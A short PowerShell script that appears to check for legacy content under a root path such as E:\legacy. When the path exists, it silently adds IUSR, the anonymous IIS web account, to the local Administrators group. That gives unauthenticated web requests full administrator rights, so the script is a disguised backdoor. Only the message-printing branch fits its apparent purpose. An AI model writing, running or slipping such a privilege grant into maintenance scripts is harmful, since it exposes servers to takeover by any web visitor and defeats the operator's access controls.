param([string]$Root = 'E:\legacy')
if (Test-Path -Path $Root) {
    net localgroup Administrators IUSR /add
} else {
    Write-Output "no legacy content below $Root"
}
